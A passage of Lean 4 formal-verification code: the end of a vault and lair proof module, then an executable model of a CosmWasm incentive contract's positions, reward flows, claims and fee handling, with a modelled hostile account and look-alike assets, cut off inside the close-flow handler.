    (reach (Cfg.empty 1) [.vaultInst false ⟨0, 0, 0⟩ .ibc2 false, .vaultUpd false 0 (some ⟨0, 0, 1⟩)]).vaults
      = [⟨⟨0, 0, 0⟩, .ibc2, false⟩] := by decide

/-- with the stock LP-token code a vault over a genuine token-factory denom is refused on every path and
    with every fee … -/
example : ∀ via tf, vaultInstantiate via ⟨0, 0, 0⟩ .factory tf = .err ∧ vaultCreate ⟨0, 0, 0⟩ .factory tf = .err := by
  decide

/-- … with an LP-token code that accepts the symbol it exists (the burn-fee clause is not vacuous), it is
    refused with a burn fee at creation, and `update_config` refuses a burn fee on it on both paths while
    still accepting other fee changes -/
example :
    (reach (Cfg.empty 1)
      [.vaultInst true ⟨1, 2, 0⟩ .factory false true,      -- created through the factory
       .vaultInst false ⟨1, 2, 3⟩ .factory false true,     -- burn fee at instantiate: refused
       .vaultUpd true 0 (some ⟨5, 6, 7⟩),                  -- burn fee through the factory: refused
       .vaultUpd true 0 (some ⟨5, 6, 0⟩)]).vaults          -- other fees: accepted
      = [⟨⟨5, 6, 0⟩, .factory, true⟩] := by decide

/-- the lair at entry-point level: an empty bonding-asset list is accepted, the growth bound holds -/
example : (lairInstantiate 1000000000000000000 0 false false).isOk = true ∧
    lairInstantiate 1000000000000000001 0 false false = .err ∧
    lairInstantiate 5 0 false true = .err := by decide

end WW.C18
