/-
  Executable model of the incentive contract
  (`contracts/liquidity_hub/pool-network/incentive`, with the factory's configuration, the fee
  collector address, the frontend helper and the token ledgers it talks to).

  * storage items are association lists with unique keys (`aset` replaces or appends); every lookup is
    order independent (BTreeMap `last_key_value`, `range(..=e).next_back()` and "earliest entry" are
    computed as max / min over the keys), so the order of a list never matters to an observable;
    `FLOWS` is kept in its key order `(start_epoch, flow_id)` because `Flows`, `Rewards` and `claim`
    iterate in that order;
  * a handler computes a new state and a list of outgoing messages; the messages are applied in
    emission order after the handler (`applyMsgs`); a failing message fails the whole operation;
    a failed operation has no state at all (`Res`), i.e. nothing changes;
  * native funds attached to a call arrive before the handler runs; a cw20 allowance is an input of the
    operation (the harness sets the sender's allowance to exactly the offered value before the call);
  * the current epoch is an input carried by every operation (`Env.epoch`);
  * `getRewards` (query) and `claimCore` (execute) are separate replicas of the two separate Rust
    functions `queries/get_rewards.rs` and `claim.rs`.

  Not modelled: overflow of a *recipient's* token balance (total supplies are below 2^128), u64
  overflow of epoch/time arithmetic, labels, attributes, migrations.
-/
import WW.Cw.Arith
import WW.Gen.Constants
import WW.Model.Weight
namespace WW.Inc
open WW WW.Gen

abbrev Addr := Nat

/-- fixed accounts -/
def INC : Addr := 0
def OWNER : Addr := 5
/-- the account of the hostile pool token of the helper's pair (an ordinary sender otherwise) -/
def MALLORY : Addr := 6
def COLLECTOR : Addr := 7
def HELPER : Addr := 8
def PAIR : Addr := 9

/-- factory configuration + the kind of the LP asset. Assets: 0 = LP, 1, 2 native, 3, 4 cw20;
    5 … 9 are the same five NAMES in the WRONG KIND (`a + 5` is the look-alike of `a`): the native denom
    that spells a cw20 token's address — an ordinary native asset, distinct from the token, which anybody
    may hold and open flows in — and the cw20 `Token { contract_addr }` that spells a native denom, behind
    which there is no contract (`Cfg.dead`): every query or message sent there fails. `AssetInfo` equality
    in the contract is equality of kind AND name, i.e. equality of asset ids here. -/
structure Cfg where
  lpNative : Bool
  feeAsset : Nat
  feeAmt : Nat
  maxFlows : Nat
  buffer : Nat
  minDur : Nat
  maxDur : Nat
deriving Repr, DecidableEq

def Cfg.native (c : Cfg) (a : Nat) : Bool :=
  if a = 0 then c.lpNative
  else if a < 5 then (a = 1 || a = 2)
  else if a = 5 then !c.lpNative
  else (a = 8 || a = 9)

/-- a cw20 asset id with no token contract behind it (the `Token` that spells a native denom; ids past the
    universe likewise) -/
def Cfg.dead (c : Cfg) (a : Nat) : Bool := !c.native a && decide (5 ≤ a)

/-! ### association lists -/
section AList
variable {κ : Type} [DecidableEq κ] {α : Type}

def alook (l : List (κ × α)) (k : κ) : Option α :=
  match l with
  | [] => none
  | (k', v) :: t => if k' = k then some v else alook t k

def aset (l : List (κ × α)) (k : κ) (v : α) : List (κ × α) :=
  match l with
  | [] => [(k, v)]
  | (k', v') :: t => if k' = k then (k, v) :: t else (k', v') :: aset t k v

def adel (l : List (κ × α)) (k : κ) : List (κ × α) := l.filter (fun p => !(decide (p.1 = k)))
end AList

/-- `may_load(..).unwrap_or_default()` for numbers -/
def aget {κ : Type} [DecidableEq κ] (l : List (κ × Nat)) (k : κ) : Nat := (alook l k).getD 0

/-- entry with the largest key `≤ e` (`BTreeMap::range(..=e).next_back()`) -/
def maxKeyLE {α : Type} (l : List (Nat × α)) (e : Nat) : Option (Nat × α) :=
  l.foldl (fun acc p =>
    if p.1 ≤ e then
      match acc with
      | none => some p
      | some q => if q.1 ≤ p.1 then some p else acc
    else acc) none

/-- entry with the largest key (`BTreeMap::last_key_value`) -/
def maxKey {α : Type} (l : List (Nat × α)) : Option (Nat × α) :=
  l.foldl (fun acc p =>
    match acc with
    | none => some p
    | some q => if q.1 ≤ p.1 then some p else acc) none

structure OpenPos where
  dur : Nat
  amt : Nat
deriving Repr, DecidableEq

structure ClosedPos where
  amt : Nat
  ts : Nat
deriving Repr, DecidableEq

structure Flow where
  id : Nat
  creator : Addr
  asset : Nat
  amount : Nat
  claimed : Nat
  startE : Nat
  endE : Nat
  emitted : List (Nat × Nat)
  hist : List (Nat × (Nat × Nat))
deriving Repr, DecidableEq

structure St where
  openPos : List (Addr × List OpenPos)
  closedPos : List (Addr × List ClosedPos)
  global : Nat
  addrW : List (Addr × Nat)
  whist : List ((Addr × Nat) × Nat)
  snap : List (Nat × Nat)
  lastClaimed : List (Addr × Nat)
  flows : List Flow
  flowCounter : Nat
  bal : List ((Addr × Nat) × Nat)
deriving Repr, DecidableEq

/-- what a call carries: current epoch, block time (s), sender, and what the sender offers
    (`(asset, amount)`: native → attached funds, cw20 → allowance to the called contract) -/
structure Env where
  epoch : Nat
  time : Nat
  sender : Addr
  offers : List (Nat × Nat)
deriving Repr, DecidableEq

inductive Op where
  | openPos (amt dur : Nat) (recv : Option Addr)
  | expandPos (amt dur : Nat) (recv : Option Addr)
  | closePos (dur : Nat)
  | withdraw
  | claim
  | snapshot
  | openFlow (asset amt : Nat) (start end_ : Option Nat)
  | expandFlow (id asset amt : Nat) (end_ : Option Nat)
  | closeFlow (id : Nat)
  | helperDeposit (a0 a1 dur : Nat)
  /-- the helper deposit with the two assets NAMED `x0`, `x1` instead of the pair's own 1 and 3 (`x0 = 6`:
      the token that spells `uwhale`; `x1 = 8`: the denom that spells cw20 A's address) -/
  | helperDepositAs (x0 x1 a0 a1 dur : Nat)
deriving Repr, DecidableEq

/-! ### token ledgers and messages -/

def balOf (s : St) (who : Addr) (a : Nat) : Nat := aget s.bal (who, a)

/-- outgoing messages of a handler -/
inductive Msg where
  /-- `BankMsg::Send` (native) or cw20 `Transfer` (cw20) of `amt` of asset `a` from `src` to `dst` -/
  | send (src dst : Addr) (a amt : Nat)
  /-- cw20 `TransferFrom { owner, recipient, amount }` executed by the spender the allowance was given to -/
  | pull (owner dst : Addr) (a amt : Nat)
deriving Repr, DecidableEq

abbrev Bal := List ((Addr × Nat) × Nat)

def moveBal (b : Bal) (src dst : Addr) (a amt : Nat) : Bal :=
  let b1 := aset b (src, a) (aget b (src, a) - amt)
  aset b1 (dst, a) (aget b1 (dst, a) + amt)

/-- one message against the ledgers; `allow` = the remaining cw20 allowances of the op's sender -/
def applyMsg (c : Cfg) (b : Bal) (allow : List (Nat × Nat)) : Msg → Res (Bal × List (Nat × Nat))
  | .send src dst a amt =>
    if c.native a then
      -- cw-multi-test bank: "Cannot transfer empty coins amount"; insufficient funds
      if amt = 0 then .err
      else if aget b (src, a) < amt then .err
      else .ok (moveBal b src dst a amt, allow)
    else if c.dead a then .err            -- no contract at that address
    else
      if aget b (src, a) < amt then .err else .ok (moveBal b src dst a amt, allow)
  | .pull owner dst a amt =>
    if c.dead a then .err else            -- no contract at that address
    match alook allow a with
    | none => .err                      -- NoAllowance
    | some al =>
      if al < amt then .err             -- allowance.checked_sub
      else if aget b (owner, a) < amt then .err
      else .ok (moveBal b owner dst a amt, aset allow a (al - amt))

def applyMsgs (c : Cfg) (b : Bal) (allow : List (Nat × Nat)) : List Msg → Res Bal
  | [] => .ok b
  | m :: ms =>
    match applyMsg c b allow m with
    | .ok (b', allow') => applyMsgs c b' allow' ms
    | .err => .err
    | .panic => .panic

/-- native funds of the offers, moved from the sender to `target` before the handler runs -/
def attachFunds (c : Cfg) (b : Bal) (sender target : Addr) : List (Nat × Nat) → Res Bal
  | [] => .ok b
  | (a, v) :: t =>
    if c.native a then
      if aget b (sender, a) < v then .err else attachFunds c (moveBal b sender target a v) sender target t
    else attachFunds c b sender target t

def fundsOf (c : Cfg) (offers : List (Nat × Nat)) : List (Nat × Nat) := offers.filter (fun o => c.native o.1)
def allowOf (c : Cfg) (offers : List (Nat × Nat)) : List (Nat × Nat) := offers.filter (fun o => !c.native o.1)

/-- `cw_utils::must_pay(&info, denom)` -/
def mustPay (funds : List (Nat × Nat)) (a : Nat) : Res Nat :=
  match funds with
  | [(d, v)] => if v = 0 then .err else if d = a then .ok v else .err
  | _ => .err

/-! ### weights bookkeeping -/

/-- `helpers::snapshot_global_weight_if_missing` (the F11 fix) -/
def snapIfMissing (s : St) (epoch : Nat) : St :=
  match alook s.snap epoch with
  | some _ => s
  | none => { s with snap := aset s.snap epoch s.global }

def openOf (s : St) (u : Addr) : List OpenPos := (alook s.openPos u).getD []
def closedOf (s : St) (u : Addr) : List ClosedPos := (alook s.closedPos u).getD []

/-- `funds_validation::validate_funds_sent` for the LP asset -/
def validateFunds (c : Cfg) (e : Env) (amount : Nat) : Res (List Msg) :=
  if amount = 0 then .err
  else if c.native 0 then do
    let paid ← mustPay (fundsOf c e.offers) 0
    if paid ≠ amount then .err else pure []
  else
    if aget (allowOf c e.offers) 0 < amount then .err
    else pure [.pull e.sender INC 0 amount]

/-- state part of `open_position` / `expand_position` after the position list was updated:
    lazy snapshot, add `w` to the global and the receiver's weight, record next epoch's weight -/
def addWeight (s : St) (epoch : Nat) (r : Addr) (w : Nat) : Res St := do
  let s := snapIfMissing s epoch
  let g ← cadd U128MAX s.global w
  let uw ← cadd U128MAX (aget s.addrW r) w
  pure { s with global := g, addrW := aset s.addrW r uw, whist := aset s.whist (r, epoch + 1) uw }

def openPosition (c : Cfg) (s : St) (e : Env) (amount dur : Nat) (recv : Option Addr) : Res (St × List Msg) := do
  guardErr (decide (c.minDur ≤ dur) && decide (dur ≤ c.maxDur))
  let msgs ← validateFunds c e amount
  let r := recv.getD e.sender
  guardErr (!(openOf s r).any (fun p => p.dur = dur))
  let s1 := { s with openPos := aset s.openPos r (openOf s r ++ [{ dur := dur, amt := amount }]) }
  let w ← calcWeight dur amount
  let s2 ← addWeight s1 e.epoch r w
  pure (s2, msgs)

def expandPosition (c : Cfg) (s : St) (e : Env) (amount dur : Nat) (recv : Option Addr) : Res (St × List Msg) := do
  let msgs ← validateFunds c e amount
  let r := recv.getD e.sender
  match alook s.openPos r with
  | none => .err
  | some ps =>
    match ps.find? (fun p => p.dur = dur) with
    | none => .err
    | some p =>
      let prev := p.amt
      -- pos.amount += amount  (unchecked)
      let newAmt ← padd U128MAX prev amount
      let ps' := ps.map (fun q => if q.dur = dur then { q with amt := newAmt } else q)
      let s1 := { s with openPos := aset s.openPos r ps' }
      -- calculate_weight(d, prev.checked_add(amount)?)?.checked_sub(calculate_weight(d, prev)?)?
      let t ← cadd U128MAX prev amount
      let w1 ← calcWeight dur t
      let w0 ← calcWeight dur prev
      let w ← csub w1 w0
      let s2 ← addWeight s1 e.epoch r w
      pure (s2, msgs)

/-! ### flows: helpers (`helpers.rs`) -/

def Flow.lastHist (f : Flow) : Option (Nat × (Nat × Nat)) := maxKey f.hist
/-- the latest expanded `(amount, end_epoch)`, or the original ones -/
def Flow.expanded (f : Flow) : Nat × Nat :=
  match f.lastHist with
  | some (_, v) => v
  | none => (f.amount, f.endE)
/-- funded amount as `close_flow` sees it -/
def Flow.funded (f : Flow) : Nat := f.expanded.1
/-- `get_flow_asset_amount_at_epoch` -/
def Flow.amountAt (f : Flow) (e : Nat) : Nat :=
  match maxKeyLE f.hist e with
  | some (_, (a, _)) => a
  | none => f.amount
/-- `get_flow_current_end_epoch` -/
def Flow.endAt (f : Flow) (e : Nat) : Nat :=
  match maxKeyLE f.hist e with
  | some (_, (_, en)) => en
  | none => f.endE

/-- earliest weight-history entry of an address (`get_earliest_available_weight_snapshot_for_user`) -/
def earliest (wh : List ((Addr × Nat) × Nat)) (u : Addr) : Option (Nat × Nat) :=
  wh.foldl (fun acc p =>
    if p.1.1 = u then
      match acc with
      | none => some (p.1.2, p.2)
      | some q => if p.1.2 < q.1 then some (p.1.2, p.2) else acc
    else acc) none

/-- FLOWS key order -/
def flowLt (f g : Flow) : Bool := f.startE < g.startE || (f.startE = g.startE && f.id < g.id)

def insertFlow (f : Flow) : List Flow → List Flow
  | [] => [f]
  | g :: t => if flowLt f g then f :: g :: t else g :: insertFlow f t

def findFlow (fl : List Flow) (id : Nat) : Option Flow := fl.find? (fun f => f.id = id)
def removeFlow (fl : List Flow) (id : Nat) : List Flow := fl.filter (fun f => f.id ≠ id)

/-! ### claim (`claim.rs`) and the rewards query (`queries/get_rewards.rs`): two separate replicas -/

/-- loop state of one flow inside `claim` -/
structure ClaimLoop where
  flow : Flow
  lastUpd : Nat
  lastSeen : Nat
  count : Nat
  msgs : List Msg
deriving Repr, DecidableEq

/-- result of one epoch iteration: keep going / `break` -/
inductive Iter (α : Type) where
  | next (a : α)
  | stop (a : α)

/-- which weight an address has in epoch `ep` given the running
    `(last_epoch_user_weight_update, last_user_weight_seen)`: the recorded one, else the last one seen
    if it was recorded for an earlier epoch, else none (the epoch is skipped) -/
def weightAt (s : St) (u ep lu ls : Nat) : Nat × Nat × Option Nat :=
  match alook s.whist (u, ep) with
  | some w => (ep, w, some w)
  | none => if lu ≠ 0 && lu ≤ ep then (lu, ls, some ls) else (lu, ls, none)

/-- `Uint256::from_uint128(emission) * Decimal256::from_ratio(weight, global)` as `Uint128` -/
def rewardOf (emission uw g : Nat) : Res Nat :=
  match dec256FromRatio uw g with
  | .ok share =>
    match u256MulDec emission share with
    | .ok r256 => to128 r256
    | .err => .err
    | .panic => .panic
  | .err => .err
  | .panic => .panic

/-- emission of epoch `ep` as `claim.rs` computes it, and the emitted-tokens map with the epoch recorded -/
def emissionStep (f : Flow) (emitted : List (Nat × Nat)) (ep : Nat) : Res (Nat × List (Nat × Nat)) :=
  let emittedPrev := if emitted.isEmpty then 0 else aget emitted (ep - 1)
  match psub (f.endAt ep) ep with
  | .ok diff =>
    match cdiv (f.amountAt ep - emittedPrev) diff with
    | .ok emission =>
      match alook emitted ep with
      | some _ => .ok (emission, emitted)
      | none =>
        match cadd U128MAX emission emittedPrev with
        | .ok t => .ok (emission, aset emitted ep t)
        | .err => .err
        | .panic => .panic
    | .err => .err
    | .panic => .panic
  | .err => .err
  | .panic => .panic

/-- the paying part of one `claim.rs` iteration: sanity check against the *running* claimed amount,
    bump `claimed_amount`, emit the transfer -/
def claimPay (u expAmt : Nat) (st : ClaimLoop) (emission uw g : Nat) : Res (Iter ClaimLoop) :=
  if g = 0 then .ok (.next st)
  else
    match rewardOf emission uw g with
    | .ok reward =>
      match cadd U128MAX reward st.flow.claimed with
      | .ok tot =>
        if reward > emission || tot > expAmt then .err
        else if reward = 0 then .ok (.next st)
        else
          match cadd U128MAX st.flow.claimed reward with
          | .ok cl => .ok (.next { st with flow := { st.flow with claimed := cl },
                                           msgs := st.msgs ++ [.send INC u st.flow.asset reward] })
          | .err => .err
          | .panic => .panic
      | .err => .err
      | .panic => .panic
    | .err => .err
    | .panic => .panic

/-- body of `for epoch_id in first_claimable_epoch..=current_epoch` in `claim.rs` -/
def claimEpoch (s : St) (u : Addr) (expAmt expEnd : Nat) (st0 : ClaimLoop) (ep : Nat) : Res (Iter ClaimLoop) :=
  let st := { st0 with count := st0.count + 1 }
  if st.count > INCENTIVE_EPOCH_CLAIM_CAP then .ok (.stop st)
  else if ep < st.flow.startE then
    -- the flow is not active yet: skip, but keep track of the weight recorded for the skipped epoch
    let wa := weightAt s u ep st.lastUpd st.lastSeen
    .ok (.next { st with lastUpd := wa.1, lastSeen := wa.2.1 })
  else if ep ≥ expEnd then .ok (.stop st)
  else
    match emissionStep st.flow st.flow.emitted ep with
    | .ok (emission, em) =>
      let wa := weightAt s u ep st.lastUpd st.lastSeen
      let st1 := { st with flow := { st.flow with emitted := em }, lastUpd := wa.1, lastSeen := wa.2.1 }
      match wa.2.2 with
      | none => .ok (.next st1)
      | some uw => claimPay u expAmt st1 emission uw (aget s.snap ep)
    | .err => .err
    | .panic => .panic

def claimEpochs (s : St) (u : Addr) (expAmt expEnd : Nat) : Nat → Nat → ClaimLoop → Res ClaimLoop
  | 0, _, st => .ok st
  | n + 1, ep, st =>
    match claimEpoch s u expAmt expEnd st ep with
    | .ok (.next st') => claimEpochs s u expAmt expEnd n (ep + 1) st'
    | .ok (.stop st') => .ok st'
    | .err => .err
    | .panic => .panic

/-- first claimable epoch and the initial `(last_epoch_user_weight_update, last_user_weight_seen)` -/
def claimStart (s : St) (u : Addr) (f : Flow) : Nat × Nat × Nat :=
  let (lu, ls) := (earliest s.whist u).getD (0, 0)
  let first := match alook s.lastClaimed u with
    | some l => l + 1
    | none => if f.startE > lu then lu else f.startE
  (first, lu, ls)

/-- one flow inside `claim`: returns the flow to save and the messages -/
def claimFlow (s : St) (u : Addr) (epoch : Nat) (f : Flow) : Res (Flow × List Msg) :=
  let (expAmt, expEnd) := f.expanded
  if epoch > expEnd && f.claimed = expAmt then .ok (f, [])
  else
    let (first, lu, ls) := claimStart s u f
    match claimEpochs s u expAmt expEnd (epoch + 1 - first) first
        { flow := f, lastUpd := lu, lastSeen := ls, count := 0, msgs := [] } with
    | .ok st => .ok (st.flow, st.msgs)
    | .err => .err
    | .panic => .panic

def claimFlows (s : St) (u : Addr) (epoch : Nat) : List Flow → Res (List Flow × List Msg)
  | [] => .ok ([], [])
  | f :: t =>
    if f.startE ≤ epoch then
      match claimFlow s u epoch f with
      | .ok (f', m) =>
        match claimFlows s u epoch t with
        | .ok (t', m') => .ok (f' :: t', m ++ m')
        | .err => .err
        | .panic => .panic
      | .err => .err
      | .panic => .panic
    else
      match claimFlows s u epoch t with
      | .ok (t', m') => .ok (f :: t', m')
      | .err => .err
      | .panic => .panic

/-- `claim::claim` -/
def claimCore (s : St) (u : Addr) (epoch : Nat) : Res (St × List Msg) :=
  if alook s.lastClaimed u = some epoch then .err
  else
    match claimFlows s u epoch s.flows with
    | .ok (fl, msgs) =>
      let wh := s.whist.filter (fun p => p.1.1 ≠ u)
      .ok ({ s with flows := fl,
                    whist := aset wh (u, epoch + 1) (aget s.addrW u),
                    lastClaimed := aset s.lastClaimed u epoch }, msgs)
    | .err => .err
    | .panic => .panic

/-- `execute::claim` -/
def claimExec (s : St) (e : Env) : Res (St × List Msg) :=
  match alook s.snap e.epoch with
  | none => .err
  | some _ => claimCore s e.sender e.epoch

/-- loop state of one flow inside `get_rewards` -/
structure RewLoop where
  emitted : List (Nat × Nat)
  lastUpd : Nat
  lastSeen : Nat
  total : Nat
deriving Repr, DecidableEq

/-- the adding part of one `get_rewards.rs` iteration: sanity check against the flow's *stored*
    claimed amount, `total_reward += reward` (unchecked) -/
def rewardsAdd (f : Flow) (expAmt : Nat) (st : RewLoop) (emission uw g : Nat) : Res (Iter RewLoop) :=
  if g = 0 then .ok (.next st)
  else
    match rewardOf emission uw g with
    | .ok reward =>
      match cadd U128MAX reward f.claimed with
      | .ok tot =>
        if reward > emission || tot > expAmt then .err
        else
          match padd U128MAX st.total reward with
          | .ok t => .ok (.next { st with total := t })
          | .err => .err
          | .panic => .panic
      | .err => .err
      | .panic => .panic
    | .err => .err
    | .panic => .panic

/-- body of the epoch loop in `get_rewards.rs` (no epoch cap; the flow itself is not updated) -/
def rewardsEpoch (s : St) (u : Addr) (f : Flow) (expAmt expEnd : Nat) (st : RewLoop) (ep : Nat) : Res (Iter RewLoop) :=
  if ep < f.startE then
    -- the flow is not active yet: skip, but keep track of the weight recorded for the skipped epoch
    let wa := weightAt s u ep st.lastUpd st.lastSeen
    .ok (.next { st with lastUpd := wa.1, lastSeen := wa.2.1 })
  else if ep ≥ expEnd then .ok (.stop st)
  else
    match emissionStep f st.emitted ep with
    | .ok (emission, em) =>
      let wa := weightAt s u ep st.lastUpd st.lastSeen
      let st1 := { st with emitted := em, lastUpd := wa.1, lastSeen := wa.2.1 }
      match wa.2.2 with
      | none => .ok (.next st1)
      | some uw => rewardsAdd f expAmt st1 emission uw (aget s.snap ep)
    | .err => .err
    | .panic => .panic

def rewardsEpochs (s : St) (u : Addr) (f : Flow) (expAmt expEnd : Nat) : Nat → Nat → RewLoop → Res RewLoop
  | 0, _, st => .ok st
  | n + 1, ep, st =>
    match rewardsEpoch s u f expAmt expEnd st ep with
    | .ok (.next st') => rewardsEpochs s u f expAmt expEnd n (ep + 1) st'
    | .ok (.stop st') => .ok st'
    | .err => .err
    | .panic => .panic

/-- one flow inside `get_rewards`: `none` when the flow is skipped, else the total for the flow -/
def rewardsFlow (s : St) (u : Addr) (epoch : Nat) (f : Flow) : Res (Option Nat) :=
  let (expAmt, expEnd) := f.expanded
  if epoch > expEnd && f.claimed = expAmt then .ok none
  else
    let (first, lu, ls) := claimStart s u f
    match rewardsEpochs s u f expAmt expEnd (epoch + 1 - first) first
        { emitted := f.emitted, lastUpd := lu, lastSeen := ls, total := 0 } with
    | .ok st => .ok (some st.total)
    | .err => .err
    | .panic => .panic

def rewardsFlows (s : St) (u : Addr) (epoch : Nat) : List Flow → Res (List (Nat × Nat))
  | [] => .ok []
  | f :: t =>
    if f.startE ≤ epoch then
      match rewardsFlow s u epoch f with
      | .ok r =>
        match rewardsFlows s u epoch t with
        | .ok t' => .ok (match r with | some v => (f.asset, v) :: t' | none => t')
        | .err => .err
        | .panic => .panic
      | .err => .err
      | .panic => .panic
    else rewardsFlows s u epoch t

/-- `QueryMsg::Rewards { address }`: `(asset, amount)` per flow in FLOWS order, zero entries dropped -/
def getRewards (s : St) (u : Addr) (epoch : Nat) : Res (List (Nat × Nat)) :=
  if alook s.lastClaimed u = some epoch then .ok []
  else
    match rewardsFlows s u epoch s.flows with
    | .ok l => .ok (l.filter (fun p => p.2 > 0))
    | .err => .err
    | .panic => .panic

/-! ### close / withdraw / snapshot -/

def closePosition (s : St) (e : Env) (dur : Nat) : Res (St × List Msg) := do
  -- if let Ok(r) = get_rewards(..) { if !r.rewards.is_empty() { return Err(PendingRewards) } }
  (match getRewards s e.sender e.epoch with
    | .ok l => if l.isEmpty then pure () else .err
    | .err => pure ()
    | .panic => .panic)
  match alook s.openPos e.sender with
  | none => .err
  | some ps =>
    match ps.find? (fun p => p.dur = dur) with
    | none => .err
    | some p =>
      guardErr (decide (e.time + p.dur ≤ U64MAX))
      let s1 := { s with closedPos := aset s.closedPos e.sender (closedOf s e.sender ++ [{ amt := p.amt, ts := e.time + p.dur }]) }
      let w ← calcWeight dur p.amt
      let s2 := snapIfMissing s1 e.epoch
      let uw := aget s2.addrW e.sender - w
      pure ({ s2 with global := s2.global - w,
                      addrW := aset s2.addrW e.sender uw,
                      whist := aset s2.whist (e.sender, e.epoch + 1) uw,
                      openPos := aset s2.openPos e.sender (ps.filter (fun q => q.dur ≠ dur)) }, [])

def sumClosed : List ClosedPos → Res Nat
  | [] => .ok 0
  | p :: t => do
    let r ← sumClosed t
    cadd U128MAX r p.amt

def withdrawOp (s : St) (e : Env) : Res (St × List Msg) := do
  let tot ← sumClosed (closedOf s e.sender)
  let s1 := { s with closedPos := aset s.closedPos e.sender [] }
  if tot = 0 then pure (s1, []) else pure (s1, [.send INC e.sender 0 tot])

def takeSnapshot (s : St) (e : Env) : Res (St × List Msg) :=
  match alook s.snap e.epoch with
  | some _ => .err
  | none => .ok ({ s with snap := aset s.snap e.epoch s.global }, [])

/-! ### flows: open / expand / close -/

def hasFunds (funds : List (Nat × Nat)) (a v : Nat) : Bool := funds.any (fun p => p.1 = a && p.2 = v)

/-- fee part of `open_flow`: the flow amount after the fee and the fee messages -/
def openFlowFee (c : Cfg) (e : Env) (a amount : Nat) : Res (Nat × List Msg) :=
  let fee := c.feeAmt
  let fa := c.feeAsset
  let funds := fundsOf c e.offers
  let allow := allowOf c e.offers
  if c.native fa then
    match alook funds fa with
    | none => .err
    | some paid =>
      let same := c.native a && decide (a = fa)
      let flowAmt := if same then amount - fee else amount
      if same && decide (flowAmt < INCENTIVE_MIN_FLOW_AMOUNT) then .err
      else if paid < fee then .err
      else
        -- an over-paid fee is refunded unless the flow is opened in the fee denom itself (then the funds
        -- must be exactly flow + fee, checked below): native flow asset of another denom, or a cw20 one
        let refund : List Msg :=
          if fee < paid && !same then [.send INC e.sender fa (paid - fee)] else []
        let out : Nat × List Msg := (flowAmt, refund ++ [Msg.send INC COLLECTOR fa fee])
        if same then
          match cadd U128MAX flowAmt fee with
          | .ok t => if paid = t then .ok out else .err
          | .err => .err
          | .panic => .panic
        else .ok out
  else
    let al := aget allow fa
    let out : Nat × List Msg := (amount, [Msg.pull e.sender COLLECTOR fa fee])
    if !c.native a && decide (a = fa) then
      match cadd U128MAX fee INCENTIVE_MIN_FLOW_AMOUNT with
      | .ok t => if t ≤ al then .ok out else .err
      | .err => .err
      | .panic => .panic
    else if fee ≤ al then .ok out else .err

/-- flow-asset part of `open_flow`: final flow amount and the transfer message -/
def openFlowAsset (c : Cfg) (e : Env) (a flowAmt : Nat) : Res (Nat × List Msg) :=
  let fee := c.feeAmt
  let fa := c.feeAsset
  let funds := fundsOf c e.offers
  let allow := allowOf c e.offers
  if c.native a then
    if !c.native fa || decide (fa ≠ a) then
      if hasFunds funds a flowAmt then .ok (flowAmt, []) else .err
    else .ok (flowAmt, [])
  else
    let al := aget allow a
    if !c.native fa then
      if fa ≠ a then
        if fee ≤ al then .ok (flowAmt, [Msg.pull e.sender INC a flowAmt]) else .err
      else
        match cadd U128MAX fee INCENTIVE_MIN_FLOW_AMOUNT with
        | .ok t => if t ≤ al then .ok (flowAmt - fee, [Msg.pull e.sender INC a (flowAmt - fee)]) else .err
        | .err => .err
        | .panic => .panic
    else
      if flowAmt ≤ al then .ok (flowAmt, [Msg.pull e.sender INC a flowAmt]) else .err

def openFlow (c : Cfg) (s : St) (e : Env) (a amount : Nat) (start end_ : Option Nat) : Res (St × List Msg) := do
  guardErr (decide (INCENTIVE_MIN_FLOW_AMOUNT ≤ amount))
  let (flowAmt0, msgs0) ← openFlowFee c e a amount
  guardErr (decide (s.flows.length < c.maxFlows))
  let (flowAmt, msgs1) ← openFlowAsset c e a flowAmt0
  let endE := end_.getD (e.epoch + INCENTIVE_DEFAULT_FLOW_DURATION)
  guardErr (decide (e.epoch ≤ endE))
  let startE := start.getD e.epoch
  guardErr (decide (startE ≤ endE))
  guardErr (decide (startE ≤ e.epoch + c.buffer))
  let id := s.flowCounter + 1
  let f : Flow := { id := id, creator := e.sender, asset := a, amount := flowAmt, claimed := 0,
                    startE := startE, endE := endE, emitted := [], hist := [] }
  pure ({ s with flowCounter := id, flows := insertFlow f s.flows }, msgs0 ++ msgs1)

def sumHist : List (Nat × (Nat × Nat)) → Res Nat
  | [] => .ok 0
  | p :: t => do
    let r ← sumHist t
    padd U128MAX r p.2.1

/-- `expand_flow`: the flow asset must be sent: cw20 → allowance check + TransferFrom message,
    native → `must_pay == amount` -/
def expandFlowFunds (c : Cfg) (e : Env) (a amount : Nat) : Res (List Msg) :=
  if c.native a then
    match mustPay (fundsOf c e.offers) a with
    | .ok paid => if paid = amount then .ok [] else .err
    | .err => .err
    | .panic => .panic
  else
    if amount ≤ aget (allowOf c e.offers) a then .ok [.pull e.sender INC a amount] else .err

def expandFlow (c : Cfg) (s : St) (e : Env) (id a amount : Nat) (end_ : Option Nat) : Res (St × List Msg) := do
  match findFlow s.flows id with
  | none => .err
  | some f =>
    let expEnd := f.expanded.2
    guardErr (decide (e.epoch ≤ expEnd))
    guardErr (decide (f.asset = a))
    -- the flow asset must be sent: cw20 → allowance check + TransferFrom message, native → must_pay == amount
    let msgs ← expandFlowFunds c e a amount
    let expandUntil :=
      if expEnd - e.epoch < INCENTIVE_FLOW_EXPANSION_BUFFER then expEnd + INCENTIVE_DEFAULT_FLOW_DURATION else expEnd
    let endE := end_.getD expandUntil
    guardErr (decide (expEnd ≤ endE))
    -- flow reset
    let f1 : Flow :=
      if expEnd - f.startE > INCENTIVE_FLOW_EXPANSION_LIMIT then
        let base := match f.lastHist with
          | some (_, (fa, _)) => fa
          | none => f.amount
        { f with amount := base - f.claimed, startE := e.epoch, endE := expEnd, claimed := 0, hist := [], emitted := [] }
      else f
    let next := e.epoch + 1
    let f2 ← (match alook f1.hist next with
      | some (ea, _) => do
        let t ← cadd U128MAX ea amount
        pure { f1 with hist := aset f1.hist next (t, endE) }
      | none => do
        let t ← cadd U128MAX (f1.amountAt e.epoch) amount
        pure { f1 with hist := aset f1.hist next (t, endE) })
    -- attributes: asset_history.values().sum::<Uint128>() (unchecked) .checked_add(flow_asset.amount)?
    let tot ← sumHist f2.hist
    let _ ← cadd U128MAX tot f2.amount
    pure ({ s with flows := insertFlow f2 (removeFlow s.flows id) }, msgs)

def closeFlow (s : St) (e : Env) (id : Nat) : Res (St × List Msg) :=
  match findFlow s.flows id with
  | none => .err
  | some f =>
    if !(f.creator = e.sender || e.sender = OWNER) then .err
    else
